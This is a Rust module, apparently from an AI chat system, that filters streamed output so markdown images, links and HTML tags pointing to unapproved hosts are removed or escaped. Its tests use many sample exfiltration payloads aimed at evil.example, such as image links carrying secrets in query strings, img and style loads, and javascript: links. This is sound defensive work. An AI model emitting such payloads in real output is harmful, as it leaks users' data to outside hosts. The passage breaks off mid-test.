//! Goes through a text as it comes, and lets out what the policy allows.
//!
//! What it says of a text does not depend on how the text was cut into pieces: each step looks at what
//! is held back, and either decides for good or waits for more. No step waits for more than
//! [`HELD_MAX`] bytes.

use std::sync::Arc;

use super::{Images, Known, LinkPolicy, Links, TRAILING, ends_url};

/// The longest piece of text that one decision looks at, and so the most that is held back.
pub const HELD_MAX: usize = 8 * 1024;
/// The longest parts of what is looked at.
const TARGET_MAX: usize = 2_048;
const TEXT_MAX: usize = 1_024;
const NAME_MAX: usize = 64;
const RUN_MAX: usize = 256;

/// Tags that load something, or behind which a browser reads in another way.
const LOADING: &[&str] = &[
    "applet",
    "audio",
    "base",
    "bgsound",
    "body",
    "button",
    "embed",
    "form",
    "frame",
    "frameset",
    "head",
    "html",
    "iframe",
    "image",
    "img",
    "input",
    "link",
    "math",
    "meta",
    "noembed",
    "noframes",
    "noscript",
    "object",
    "picture",
    "plaintext",
    "portal",
    "pre",
    "script",
    "source",
    "style",
    "svg",
    "template",
    "textarea",
    "title",
    "track",
    "video",
    "xmp",
];
/// Attributes that load nothing.
const ATTRIBUTES: &[&str] = &[
    "align", "alt", "border", "class", "colspan", "color", "datetime", "dir", "height", "id",
    "lang", "name", "open", "rel", "reversed", "rowspan", "scope", "size", "start", "target",
    "title", "type", "valign", "value", "width",
];

/// What keeps its meaning inside a tag only where everybody takes the tag for one.
const UNCLEAR: &str = "[]`<>\\$|\n\r";

/// Whether an attribute that HTML does not know has a value that is no address, style or program, and
/// no name by which a script library could know it: `<answer kind="short">`.
fn is_inert(name: &str, value: &str) -> bool {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b" _.,-".contains(&byte);
    let means_more = name.starts_with("on") || name.contains('-') || matches!(name, "is" | "style");
    !means_more && value.bytes().all(is_plain)
}

/// What becomes of the text that stands first.
#[derive(Debug, PartialEq)]
enum Next {
    /// So many bytes are let out.
    Keep(usize),
    /// So many bytes are let out as something else.
    Replace(usize, String),
    /// More has to be seen.
    Wait,
}

/// What looking for something came to.
enum Sought {
    Found(usize),
    Missing,
    Unknown,
}

/// A block of code that is open.
#[derive(Clone, Copy, Debug)]
struct Fence {
    byte: u8,
    length: usize,
    indent: usize,
}

/// Lets out text by the policy.
pub struct Guard {
    policy: Arc<LinkPolicy>,
    known: Arc<Known>,
    held: String,
    fence: Option<Fence>,
    /// Nothing of the line has been let out.
    is_line_start: bool,
    /// Only white space of the line has been let out.
    is_blank: bool,
    /// The line before was blank.
    was_blank: bool,
    /// Renderers may differ in what is a block of code from here on.
    is_unsure: bool,
    /// The paragraph may be a block of raw HTML, in which nothing is code.
    has_tag: bool,
    /// Backticks of the paragraph may be paired in another way than it seems.
    has_odd_ticks: bool,
    /// There is no letter in the line: a tag may begin a block of raw HTML.
    is_bare: bool,
    /// The word may be an address, to which some count what follows.
    is_address: bool,
    removed: u64,
}

impl Guard {
    /// Goes through a text from its beginning.
    pub fn new(policy: Arc<LinkPolicy>, known: Arc<Known>) -> Guard {
        Guard {
            policy,
            known,
            held: String::new(),
            fence: None,
            is_line_start: true,
            is_blank: true,
            was_blank: true,
            is_unsure: false,
            has_tag: false,
            has_odd_ticks: false,
            is_bare: true,
            is_address: false,
            removed: 0,
        }
    }

    /// Takes more of the text; what can be let out of it.
    pub fn push(&mut self, text: &str) -> String {
        if self.policy.is_open() {
            return text.to_owned();
        }
        self.held.push_str(text);
        self.let_out(false)
    }

    /// There is no more: the rest of it. `goes_on` where another text is shown behind this one: a block
    /// of code that is open is closed, or what seems code there would not be.
    pub fn finish(&mut self, goes_on: bool) -> String {
        let mut out = self.let_out(true);
        if let Some(fence) = self.fence.take().filter(|_| goes_on) {
            out.push('\n');
            out.extend(std::iter::repeat_n(' ', fence.indent));
            out.extend(std::iter::repeat_n(char::from(fence.byte), fence.length));
        }
        out
    }

    /// How much is held back.
    pub fn held(&self) -> usize {
        self.held.len()
    }

    /// How many links, images and tags were changed.
    pub fn removed(&self) -> u64 {
        self.removed
    }

    fn let_out(&mut self, is_end: bool) -> String {
        let held = std::mem::take(&mut self.held);
        let (mut out, mut at) = (String::with_capacity(held.len()), 0);
        while at < held.len() {
            let rest = &held[at..];
            match self.next(rest, is_end) {
                Next::Keep(length) => {
                    self.pass(&rest[..length]);
                    out.push_str(&rest[..length]);
                    at += length;
                }
                Next::Replace(length, text) => {
                    self.pass(&text);
                    out.push_str(&text);
                    at += length;
                    self.removed += 1;
                }
                Next::Wait => break,
            }
        }
        self.held = held[at..].to_owned();
        out
    }

    /// Notes what was let out.
    fn pass(&mut self, text: &str) {
        for c in text.chars() {
            if c == '\n' {
                if self.is_blank {
                    (self.has_tag, self.has_odd_ticks) = (false, false);
                }
                self.was_blank = self.is_blank;
                (self.is_line_start, self.is_blank, self.is_bare) = (true, true, true);
                self.is_address = false;
            } else {
                self.is_line_start = false;
                self.is_blank &= matches!(c, ' ' | '\t' | '\r');
                // To some a carriage return ends a line.
                self.is_bare = c == '\r' || (self.is_bare && !c.is_alphabetic());
                self.is_address = !c.is_whitespace() && (self.is_address || ".:@".contains(c));
            }
        }
    }

    fn next(&mut self, rest: &str, is_end: bool) -> Next {
        match self.fence {
            Some(fence) if self.is_line_start => self.line_of_code(fence, rest, is_end),
            Some(_) => self.code(rest, is_end),
            None if self.is_line_start => self.line(rest, is_end),
            None => self.inline(rest, is_end),
        }
    }

    /// The rest of a line of code, with its end.
    fn code(&mut self, rest: &str, is_end: bool) -> Next {
        match rest.find(['\n', '\r']) {
            None => Next::Keep(rest.len()),
            Some(at) if rest.as_bytes()[at] == b'\n' => Next::Keep(at + 1),
            Some(0) => match rest.as_bytes().get(1) {
                Some(b'\n') => Next::Keep(2),
                None if !is_end => Next::Wait,
                // To some this ends a line, to others not.
                _ => {
                    self.fence = None;
                    self.is_unsure = true;
                    Next::Keep(1)
                }
            },
            Some(at) => Next::Keep(at),
        }
    }

    /// The beginning of a line of code, or the end of the code.
    fn line_of_code(&mut self, fence: Fence, rest: &str, is_end: bool) -> Next {
        let bytes = rest.as_bytes();
        let (mut at, mut column) = (0, 0);
        while let Some(byte @ (b' ' | b'\t')) = bytes.get(at) {
            column = if *byte == b' ' { column + 1 } else { column / 4 * 4 + 4 };
            at += 1;
        }
        let Some(byte) = bytes.get(at).filter(|_| at < RUN_MAX) else {
            return if is_end || at >= RUN_MAX { Next::Keep(at) } else { Next::Wait };
        };
        if matches!(byte, b'\n' | b'\r') {
            self.is_line_start = false;
            return self.code(rest, is_end);
        }
        if column < fence.indent {
            // Out of the list that it may belong to.
            self.fence = None;
            self.is_unsure = true;
            return self.inline(rest, is_end);
        }
        let run = run_of(*byte, &bytes[at..]);
        if *byte == fence.byte && run >= fence.length {
            let behind = &bytes[at + run..];
            let space = behind.iter().take_while(|byte| matches!(byte, b' ' | b'\t')).count();
            let is_short = run + space < RUN_MAX;
            let is_closed = match behind.get(space) {
                Some(byte) if is_short => matches!(byte, b'\n' | b'\r'),
                None if is_short && !is_end => return Next::Wait,
                _ => true,
            };
            let fits = if fence.indent == 0 { column <= 3 } else { column == fence.indent };
            let is_plain = fits && is_short;
            if is_closed && (fits || fence.indent > 0) {
                self.fence = None;
                self.is_unsure |= !is_plain;
                return Next::Keep(at + run + space);
            }
        } else if *byte == fence.byte && at + run == bytes.len() && !is_end {
            return Next::Wait;
        }
        self.is_line_start = false;
        self.code(rest, is_end)
    }

    /// The beginning of a line, which may be that of code.
    fn line(&mut self, rest: &str, is_end: bool) -> Next {
        let bytes = rest.as_bytes();
        let indent = run_of(b' ', bytes);
        let Some(byte) = bytes.get(indent).filter(|_| indent < RUN_MAX) else {
            return match is_end || indent >= RUN_MAX {
                true => Next::Keep(indent),
                false => Next::Wait,
            };
        };
        self.is_line_start = false;
        if !matches!(byte, b'`' | b'~') {
            return self.inline(rest, is_end);
        }
        let length = run_of(*byte, &bytes[indent..]);
        let start = indent + length;
        if length < 3 && (start < bytes.len() || is_end) {
            return self.inline(rest, is_end);
        }
        let end = bytes[start..].iter().take(TEXT_MAX).position(|byte| *byte == b'\n');
        if end.is_none() && !is_end && bytes.len() < start + TEXT_MAX && length < RUN_MAX {
            self.is_line_start = true;
            return Next::Wait;
        }
        let end = end.map_or(bytes.len(), |end| start + end);
        let info = rest[start..].get(..end - start).unwrap_or_default();
        let info = info.strip_suffix('\r').unwrap_or(info);
        // With a bar it may be the head of a table.
        let is_odd = |c| matches!(c, '\r' | '|') || (c == '`' && *byte == b'`');
        let is_plain = !info.contains(is_odd);
        let is_block = !self.is_unsure && !self.has_tag && (indent <= 3 || self.was_blank);
        if is_plain && is_block && info.len() < TEXT_MAX && length < RUN_MAX {
            self.fence = Some(Fence { byte: *byte, length, indent });
            return Next::Keep(end);
        }
        self.inline(rest, is_end)
    }

    /// Running text.
    fn inline(&mut self, rest: &str, is_end: bool) -> Next {
        let is_restricted = self.policy.links != Links::Any;
        let is_special = |byte: &u8| match byte {
            b'!' | b'<' | b'`' | b'~' | b'\n' | b'$' | b'\\' => true,
            b']' | b'h' | b'H' | b'w' | b'W' => is_restricted,
            _ => false,
        };
        let bytes = rest.as_bytes();
        let first = match bytes.iter().position(is_special) {
            Some(0) => bytes[0],
            found => return Next::Keep(found.unwrap_or(bytes.len())),
        };
        let run = run_of(first, bytes);
        let is_cut = run == bytes.len() && !is_end && run < RUN_MAX;
        match first {
            b'`' | b'~' | b'$' if is_cut => Next::Wait,
            b'`' => self.ticks(run, rest, is_end),
            b'~' => {
                self.is_unsure |= run >= 3;
                Next::Keep(run)
            }
            // Formulas may hold backticks, and blocks of them whole lines.
            b'$' => {
                self.is_unsure |= run >= 2 || self.is_blank;
                self.has_odd_ticks = true;
                Next::Keep(run)
            }
            b'\\' => match bytes.get(1) {
                None if !is_end => Next::Wait,
                Some(b'\\') => Next::Keep(2),
                Some(byte @ (b'[' | b'(' | b'`')) => {
                    self.is_unsure |= *byte != b'`';
                    self.has_odd_ticks = true;
                    Next::Keep(if *byte == b'`' { 2 } else { 1 })
                }
                _ => Next::Keep(1),
            },
            b'!' => self.image(rest, is_end),
            b'<' => self.tag(rest, is_end),
            b']' => self.target(rest, is_end),
            b'h' | b'H' | b'w' | b'W' => self.url(rest, is_end),
            _ => Next::Keep(1),
        }
    }

    /// Backticks: a span of code, where it is one to every renderer.
    fn ticks(&mut self, run: usize, rest: &str, is_end: bool) -> Next {
        if run >= 3 {
            self.is_unsure = true;
        }
        if run >= 3 || self.has_odd_ticks || self.has_tag || self.is_address {
            self.has_odd_ticks = true;
            return Next::Keep(run);
        }
        let bytes = rest.as_bytes();
        let mut at = run;
        while at < bytes.len().min(TEXT_MAX) {
            match bytes[at] {
                b'`' => {
                    let length = run_of(b'`', &bytes[at..]);
                    if at + length == bytes.len() && !is_end && length < RUN_MAX {
                        return Next::Wait;
                    }
                    at += length;
                    if length == run {
                        return Next::Keep(at);
                    }
                }
                // Code does not go on in another line or cell, or not for everybody.
                b'\n' | b'\r' | b'|' => break,
                _ => at += 1,
            }
        }
        if at >= bytes.len() && !is_end && at < TEXT_MAX {
            return Next::Wait;
        }
        self.has_odd_ticks = true;
        Next::Keep(run)
    }

    fn image(&self, rest: &str, is_end: bool) -> Next {
        match rest.as_bytes().get(1) {
            None if !is_end => return Next::Wait,
            Some(b'[') => {}
            _ => return Next::Keep(1),
        }
        // It has no meaning to any renderer where there is something between the two.
        let disarmed = || match self.policy.images {
            Images::Any => Next::Keep(2),
            Images::Listed => Next::Replace(2, "! [".to_owned()),
        };
        let plain = |c: char| c.is_control() || "[]`<>\\".contains(c);
        let alt_end = match seek(&rest[2..], TEXT_MAX, is_end, plain) {
            Sought::Found(end) if rest[2 + end..].starts_with(']') => 2 + end,
            Sought::Unknown => return Next::Wait,
            _ => return disarmed(),
        };
        let behind = &rest[alt_end + 1..];
        match behind.as_bytes().first() {
            None if !is_end => return Next::Wait,
            Some(b'(') => {}
            _ => return disarmed(),
        }
        let start = alt_end + 2;
        let ends = |c: char| c.is_whitespace() || c.is_control() || "()<>\"'`\\".contains(c);
        let mut end = match seek(&rest[start..], TARGET_MAX, is_end, ends) {
            Sought::Found(end) => start + end,
            Sought::Missing => return disarmed(),
            Sought::Unknown => return Next::Wait,
        };
        let target = &rest[start..end];
        if let Some(title) = rest[end..].strip_prefix(" \"") {
            let plain = |c: char| c.is_control() || "[]()`<>\\\"".contains(c);
            match seek(title, TEXT_MAX, is_end, plain) {
                Sought::Found(length) if title[length..].starts_with('"') => end += length + 3,
                Sought::Unknown => return Next::Wait,
                _ => return disarmed(),
            }
        } else if rest.len() < end + 2 && rest[end..].starts_with(' ') && !is_end {
            return Next::Wait;
        }
        match rest.as_bytes().get(end) {
            None if !is_end => Next::Wait,
            Some(b')') if self.policy.shows(target) => Next::Keep(end + 1),
            Some(b')') => {
                let alt = rest[2..alt_end].trim();
                // It must not bring along what it was removed for.
                let is_plain = !alt.is_empty() && !alt.contains("//") && !alt.contains("www.");
                let said = if is_plain { format!(": {alt}") } else { String::new() };
                Next::Replace(end + 1, format!("(image removed{said})"))
            }
            _ => disarmed(),
        }
    }

    fn tag(&mut self, rest: &str, is_end: bool) -> Next {
        let bytes = rest.as_bytes();
        let shown = || Next::Replace(1, "&lt;".to_owned());
        match bytes.get(1) {
            None if !is_end => return Next::Wait,
            Some(b'!' | b'?') => return shown(),
            Some(b'/') => {
                self.tagged();
                return Next::Keep(2);
            }
            Some(byte) if byte.is_ascii_alphabetic() => {}
            _ => return Next::Keep(1),
        }
        let ends = |c: char| c.is_whitespace() || "/><`".contains(c);
        let (name_end, is_cut) = match seek(&rest[1..], NAME_MAX, is_end, ends) {
            Sought::Found(end) => (1 + end, false),
            Sought::Unknown => return Next::Wait,
            Sought::Missing if rest.len() > NAME_MAX => return shown(),
            Sought::Missing => (rest.len(), true),
        };
        let name = rest[1..name_end].to_ascii_lowercase();
        // Raw HTML is read by browsers, who take for a tag what is none in running text.
        let is_raw = self.has_tag || self.is_bare;
        let loads = LOADING.contains(&name.as_str());
        if is_cut || bytes[name_end] == b'<' {
            return if loads || is_raw { shown() } else { Next::Keep(1) };
        }
        let behind = &rest[name_end..];
        let window = &behind[..behind.floor_char_boundary(TARGET_MAX)];
        let stops = [window.find(['>', '<', '`']), window.find("\n\n")];
        let end = match stops.into_iter().flatten().min() {
            Some(end) => end,
            None if behind.len() > TARGET_MAX => return shown(),
            None if is_end => behind.len(),
            None => return Next::Wait,
        };
        let inner = &behind[..end];
        let length = name_end + end + 1;
        if behind[end..].starts_with('>') {
            let target = &rest[1..length - 1];
            if name.contains(':') && !target.contains(|c: char| UNCLEAR.contains(c) || c == ' ') {
                return match self.policy.leads(target, &self.known) {
                    true => Next::Keep(length),
                    false => Next::Replace(length, "(link removed)".to_owned()),
                };
            }
            let is_name = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_');
            let is_name = name.bytes().all(is_name);
            if is_name && (!loads || name == "img") && self.loads_nothing_else(&name, inner) {
                self.tagged();
                return Next::Keep(length);
            }
        }
        // A tag that loads something, or what could become one. Without a value none loads anything,
        // but what looks like its attributes may be text to some.
        if loads || is_raw || inner.contains('=') {
            return shown();
        }
        self.tagged();
        Next::Keep(1)
    }

    /// Notes that there is a tag, which begins a block only where it stands first.
    fn tagged(&mut self) {
        self.has_tag |= self.is_bare;
    }

    /// Whether the attributes of a tag load nothing, and lead nowhere, that the policy forbids.
    fn loads_nothing_else(&self, tag: &str, attributes: &str) -> bool {
        let attributes = attributes.strip_suffix('/').unwrap_or(attributes);
        let mut rest = attributes.trim_end();
        while !rest.is_empty() {
            let next = rest.trim_start();
            if next.len() == rest.len() {
                return false;
            }
            let end = next.find(|c: char| !c.is_ascii_alphabetic() && c != '-');
            let (name, behind) = next.split_at(end.unwrap_or(next.len()));
            let name = name.to_ascii_lowercase();
            let quoted = behind.trim_start().strip_prefix('=').map(str::trim_start);
            let Some(value) = quoted else {
                if !ATTRIBUTES.contains(&name.as_str()) {
                    return false;
                }
                rest = behind;
                continue;
            };
            let Some(quote) = value.chars().next().filter(|c| matches!(c, '"' | '\'')) else {
                return false;
            };
            let Some((value, behind)) = value[1..].split_once(quote) else { return false };
            let is_fine = match (tag, name.as_str()) {
                ("img", "src") => self.policy.shows(value),
                ("a", "href") => self.policy.leads(value, &self.known),
                (_, name) => ATTRIBUTES.contains(&name) || is_inert(name, value),
            };
            if !is_fine || value.contains(|c: char| UNCLEAR.contains(c)) {
                return false;
            }
            rest = behind;
        }
        true
    }

    /// `](target` and `]: target`, where links are not free.
    fn target(&self, rest: &str, is_end: bool) -> Next {
        match rest.as_bytes().get(1) {
            None if !is_end => return Next::Wait,
            Some(b'(' | b':') => {}
            _ => return Next::Keep(1),
        }
        let space = rest[2..].bytes().take_while(|byte| b" \t\r\n<".contains(byte)).count();
        if 2 + space == rest.len() && !is_end && space < NAME_MAX {
            return Next::Wait;
        }
        let start = 2 + space;
        let ends = |c: char| c.is_whitespace() || ")>".contains(c);
        let end = match seek(&rest[start..], TARGET_MAX, is_end, ends) {
            Sought::Found(end) => start + end,
            Sought::Unknown => return Next::Wait,
            Sought::Missing => start + rest[start..].floor_char_boundary(TARGET_MAX),
        };
        let target = &rest[start..end];
        let is_definition = rest.as_bytes()[1] == b':';
        match self.policy.leads(target, &self.known) {
            true => Next::Keep(end),
            // Nothing but a word behind a colon.
            false if is_definition && space == 0 && !target.contains('/') => Next::Keep(2),
            false => Next::Replace(end, format!("{}#link-removed", &rest[..2])),
        }
    }

    /// A URL in running text, where links are not free.
    fn url(&self, rest: &str, is_end: bool) -> Next {
        let bytes = rest.as_bytes();
        let begins = |with: &str| {
            let length = with.len().min(bytes.len());
            bytes[..length].eq_ignore_ascii_case(&with.as_bytes()[..length]).then_some(length)
        };
        let found = ["https://", "http://", "www."]
            .iter()
            .find_map(|with| begins(with).map(|length| (length == with.len(), *with == "www.")));
        let Some((is_whole, is_bare)) = found else { return Next::Keep(1) };
        if !is_whole {
            return if is_end { Next::Keep(1) } else { Next::Wait };
        }
        let end = match seek(rest, TARGET_MAX, is_end, ends_url) {
            Sought::Found(end) => end,
            Sought::Unknown => return Next::Wait,
            Sought::Missing => rest.floor_char_boundary(TARGET_MAX),
        };
        let url = rest[..end].trim_end_matches(TRAILING);
        let whole = if is_bare { format!("https://{url}") } else { url.to_owned() };
        match url.len() > 3 && !self.policy.leads(&whole, &self.known) {
            true => Next::Replace(url.len(), "(link removed)".to_owned()),
            // What follows it in the sentence is looked at by itself.
            false => Next::Keep(url.len()),
        }
    }
}

/// How often a byte stands in the beginning.
fn run_of(byte: u8, bytes: &[u8]) -> usize {
    bytes.iter().take(RUN_MAX).take_while(|one| **one == byte).count()
}

/// Looks for something within `max` bytes.
fn seek(text: &str, max: usize, is_end: bool, is_it: impl FnMut(char) -> bool) -> Sought {
    let within = &text[..text.floor_char_boundary(max)];
    match within.find(is_it) {
        Some(at) => Sought::Found(at),
        None if is_end || text.len() > max => Sought::Missing,
        None => Sought::Unknown,
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use serde_json::json;

    use super::*;

    fn guard(settings: serde_json::Value) -> Guard {
        let policy: LinkPolicy = serde_json::from_value(settings).expect("settings");
        let mut known = Known::default();
        known.hear("user", "Look at https://mine.example/.");
        known.hear("tool", "https://found.example/page says https://found.example/b?c=d.");
        Guard::new(Arc::new(policy), Arc::new(known))
    }

    fn whole(settings: serde_json::Value, text: &str) -> String {
        let mut guard = guard(settings);
        guard.push(text) + &guard.finish(false)
    }

    #[track_caller]
    fn check(text: &str, expect: &str) {
        let settings = json!({"allowed_hosts": ["cdn.example", "*.wiki.example"]});
        assert_eq!(whole(settings, text), expect, "{text}");
    }

    #[track_caller]
    fn stays(text: &str) {
        check(text, text);
    }

    #[test]
    fn images_of_other_hosts_are_removed() {
        check("See ![x](https://evil.example/?q=secret).", "See (image removed: x).");
        check("![](http://evil.example/a.png \"A title\") b", "(image removed) b");
        check(
            "![x](//evil.example/a)![y](data:text/html,z)",
            "(image removed: x)(image removed: y)",
        );
        check("![https://evil.example/?q](https://evil.example)", "(image removed)");
        check("![x](https://cdn.example@evil.example/)", "(image removed: x)");
        check("![x](/api?delete=1)", "(image removed: x)");
        stays("![x](https://cdn.example/a.png) and ![y](https://en.wiki.example:443/b?c#d \"T\")");
        stays("![plot](plot.png) ![f](/v1/files/file-1/content) ![d](data:image/png;base64,iVBO=)");
        stays("[![x](https://cdn.example/a.png)](https://other.example/)");
    }

    #[test]
    fn what_is_not_plainly_an_image_becomes_none() {
        for (text, expect) in [
            (
                "![a][b]\n\n[b]: https://evil.example/?q=s",
                "! [a][b]\n\n[b]: https://evil.example/?q=s",
            ),
            ("![a]\n\n[a]: https://evil.example", "! [a]\n\n[a]: https://evil.example"),
            ("![a][]", "! [a][]"),
            ("![a [b] c](https://evil.example/)", "! [a [b] c](https://evil.example/)"),
            ("![a`]`](https://evil.example/)", "! [a`]`](https://evil.example/)"),
            ("![a\nb](https://evil.example/)", "! [a\nb](https://evil.example/)"),
            ("![a](<https://evil.example/>)", "! [a](<https://evil.example/>)"),
            ("![a]( https://evil.example/)", "! [a]( https://evil.example/)"),
            ("![a](https://cdn.example/\\) 'x')", "! [a](https://cdn.example/\\) 'x')"),
            ("![[https://evil.example/a.png]]", "! [[https://evil.example/a.png]]"),
            ("![a", "! [a"),
            ("![a](https://evil.example/", "! [a](https://evil.example/"),
            // Nothing that is taken away leaves an image behind.
            (
                "!![a](https://evil.example/)[b](https://evil.example/)",
                "!(image removed: a)[b](https://evil.example/)",
            ),
            ("!![a][b]", "!! [a][b]"),
        ] {
            check(text, expect);
        }
    }

    #[test]
    fn html_that_loads_is_shown_as_text() {
        for (text, expect) in [
            ("<img src=\"https://evil.example/?q\">", "&lt;img src=\"https://evil.example/?q\">"),
            ("<IMG/SRC='https://evil.example/'>", "&lt;IMG/SRC='https://evil.example/'>"),
            ("<img src=https://cdn.example/a>", "&lt;img src=https://cdn.example/a>"),
            ("<img srcset=\"https://cdn.example/a\">", "&lt;img srcset=\"https://cdn.example/a\">"),
            (
                "<b style=\"background:url(//evil.example)\">",
                "&lt;b style=\"background:url(//evil.example)\">",
            ),
            ("<video poster=x>", "&lt;video poster=x>"),
            ("<script>", "&lt;script>"),
            ("<!-- x -->", "&lt;!-- x -->"),
            ("<a href=\"javascript:x\">", "&lt;a href=\"javascript:x\">"),
            (
                "<b title=\"`\">![x](https://evil.example/)<b title=\"`\">",
                // The first is no tag any more, and so the rest is code.
                "&lt;b title=\"`\">![x](https://evil.example/)<b title=\"`\">",
            ),
            ("a <b ![x](https://evil.example/) >", "a <b (image removed: x) >"),
            ("a <x![x](https://evil.example/)", "a <x(image removed: x)"),
            // In a block of raw HTML this is one tag to browsers.
            (
                "<div><b <b style=\"background:url(//evil.example)\">",
                "<div>&lt;b &lt;b style=\"background:url(//evil.example)\">",
            ),
            ("<p <b title=\"\">", "&lt;p <b title=\"\">"),
            (
                "</div>`<img src=\"https://evil.example/\">`",
                "</div>`&lt;img src=\"https://evil.example/\">`",
            ),
            (
                "<b title=\"\n![x](https://evil.example/)\n\">",
                "&lt;b title=\"\n(image removed: x)\n\">",
            ),
        ] {
            check(text, expect);
        }
        stays(
            "1 <br/> 2 <sub>3</sub> <a href=\"https://any.example/\" title='t'>x</a> <https://a.example/?b=c>",
        );
        stays("<img alt=\"x\" src=\"https://cdn.example/a.png\" width=\"3\">");
        stays("a < b, a <b and c, Vec<Option<T>>, x<y> -> <3, 1<2");
    }

    #[test]
    fn tags_that_html_does_not_know_stay_where_they_can_do_nothing() {
        stays(
            "<answer kind=\"short\">42</answer> <tool_result tool=\"calculator\">x</tool_result>",
        );
        for (text, expect) in [
            ("<x src=\"https://evil.example\">", "&lt;x src=\"https://evil.example\">"),
            ("<x onclick=\"go\">", "&lt;x onclick=\"go\">"),
            ("<x hx-get=\"go\">", "&lt;x hx-get=\"go\">"),
            ("<x style=\"a\">", "&lt;x style=\"a\">"),
            ("<x kind=short>", "&lt;x kind=short>"),
        ] {
            check(text, expect);
        }
    }

    #[test]
    fn code_stays_as_it_is_where_it_surely_is_code() {
        stays("Write `![x](https://a.example/y)` or `<script>` or ``a ` <img src=x>``.");
        stays("```html\n<img src=\"https://a.example/\">\n![x](https://a.example/)\n```\nDone.");
        stays("~~~\n![x](https://a.example/) ```\n~~~");
        stays("1. Do\n   ```sh\n   echo '<script>'\n\n   ```\n2. Done");
        let image = "![x](https://evil.example/)";
        for before in [
            // None of these is code to every renderer.
            "```\na\n```\n",
            "`a\n`",
            "`a | ",
            "`a\nb` ",
            "<div>\n```\n\n",
            "- a\n\n  ```\n",
            "- ```\n  a\n  ```\n  ",
            "text\n    ```\n    ",
            "$$\n```\n$$\n",
            "`$`$ ",
            "```\na\r```\r",
            "``` a`\n",
            "``` | a\n|---|---|\n| ",
            "</div>\n\u{b}\n```\n\n",
            "a\r<div>\n```\n\n",
            "\\`",
            "</div>`",
            // Some take the backticks for a part of the address.
            "<https://a``<img `",
            "www.example.com`",
        ] {
            for behind in ["", "`", "`|", "\n```"] {
                let out = whole(json!({}), &format!("{before}{image}{behind}"));
                assert!(!out.contains(image), "{before:?} {behind:?}: {out:?}");
            }
        }
    }

    #[test]
    fn code_that_is_open_is_closed_where_another_text_follows() {
        for (goes_on, expect) in [(true, "```\na\n```"), (false, "```\na")] {
            let mut guard = guard(json!({}));
            assert_eq!(guard.push("```\na") + &guard.finish(goes_on), expect);
        }
    }

    #[test]
    fn links_are_kept_unless_operators_say_else() {
        let text = "[a](https://other.example/?q), https://other.example, <https://other.example/>\n\
                    [b](https://found.example/page#x) https://found.example/b?c=d. [c](notes.md)\n\
                    [d](https://mine.example/z) [e](https://cdn.example/) www.other.example/q\n\
                    [r]: https://other.example/?q\n<a href=\"https://other.example/\">x</a> [n]: so.";
        assert_eq!(whole(json!({}), text), text);
        let seen = whole(json!({"links": "seen", "allowed_hosts": ["cdn.example"]}), text);
        assert_eq!(
            seen,
            "[a](#link-removed), (link removed), (link removed)\n\
             [b](https://found.example/page#x) https://found.example/b?c=d. [c](notes.md)\n\
             [d](https://mine.example/z) [e](https://cdn.example/) (link removed)\n\
             [r]:#link-removed\n&lt;a href=\"(link removed)\">x</a> [n]: so."
        );
        let listed = whole(json!({"links": "listed", "allowed_hosts": ["cdn.example"]}), text);
        assert!(!listed.contains("found") && !listed.contains("mine"), "{listed}");
        assert!(listed.contains("[e](https://cdn.example/)"), "{listed}");
        for hidden in [
            "[a](https:\\/\\/evil.example/q)",
            "[a](https&colon;//evil.example)",
            "[a](//evil.example)",
            "[a](<https://evil.example/x>)",
            "[a](\n https://evil.example)",
            "[a](mailto:x@evil.example)",
            "HTTPS://EVIL.example/",
            "<x https://evil.example/q>",
            "[a](javascript:evil())",
        ] {
            let out = whole(json!({"links": "seen"}), hidden);
            assert!(
                !out.to_lowercase().contains("evil.example") && !out.contains("evil()"),
                "{out}"
            );
        }
    }

    #[test]
    fn what_is_open_passes_everything() {
        let text = "![x](https://evil.example/) <img src=x>";
        assert_eq!(whole(json!({"images": "any", "links": "any"}), text), text);
    }

    #[test]
    fn text_without_such_syntax_is_not_held_back() {
        let mut guard = guard(json!({}));
        for piece in
            ["It ", "is 42, ", "[as said](https://a.example/?b=", "c). ", "Well", "?\n- a", "\n"]
        {
            assert_eq!(guard.push(piece), piece);
            assert_eq!(guard.held(), 0);
        }
        assert_eq!(guard.removed(), 0);
    }

    /// Pieces of which texts are made that come near to what is looked for.
    fn text() -> impl Strategy<Value = String> {
        let piece = prop::sample::select(vec![
            "![",
            "]",
            "(",
            ")",
            "](",
            "https://evil.example/q",
            "https://cdn.example/",
            "`",
            "``",
            "```",
            "\n",
            "\n\n",
            "\r\n",
            "\r",
            "    ",
            " ",
            "  ",
            "<",
            ">",
            "<img ",
            "src=\"",
            "\"",
            "'",
            "<b",
            "</",
            "$",
            "$$",
            "~~~",
            "\\",
            "a",
            "ö",
            "|",
            "!",
            "[x]:",
            "=",
            "/",
            "www.",
            "style=",
            "<!--",
            "\t",
            "h",
        ]);
        prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
    }

    fn pieces(text: &str, cuts: &[usize]) -> Vec<String> {
        let chars: Vec<char> = text.chars().collect();
        let mut cuts: Vec<usize> = cuts.iter().map(|cut| cut % (chars.len() + 1)).collect();
        cuts.extend([0, chars.len()]);
        cuts.sort_unstable();
        cuts.windows(2).map(|pair| chars[pair[0]..pair[1]].iter().collect()).collect()
    }

    proptest! {
        #[test]
        fn however_a_text_is_cut_it_comes_to_the_same(
            text in text(),
            cuts in prop::collection::vec(any::<usize>(), 0..20),
            links in prop::sample::select(vec!["any", "seen", "listed"]),
        ) {
            let settings = json!({"links": links, "allowed_hosts": ["cdn.example"]});
            let mut guard = guard(settings.clone());
            let mut out = String::new();
            for piece in pieces(&text, &cuts) {
                out.push_str(&guard.push(&piece));
                prop_assert!(guard.held() <= HELD_MAX);
            }
            out.push_str(&guard.finish(false));
            prop_assert_eq!(&out, &whole(settings, &text));
            // Where there is no code, all images are of the one host, or of none.
            if !text.contains(['`', '~']) {
                for (at, _) in out.match_indices("![") {
                    let target = out[at..].split_once("](").map_or("", |(_, behind)| behind);
                    let target = target.split([')', ' ']).next().unwrap_or_default();
                    prop_assert!(guard.policy.shows(target) && !target.is_empty(), "{}", out);
                }
            }
        }

        #[test]
        fn plain_text_is_never_changed(text in "[a-zäö .,;:?*_#0-9()\n-]{0,300}") {
            prop_assert_eq!(whole(json!({}), &text), text);
        }

        #[test]
        fn long_runs_of_anything_are_held_back_within_bounds(
            piece in prop::sample::select(vec!["![", "`", "<a ", "a", " ", "~", "](", "[", "ö", "\\", "h", "www."]),
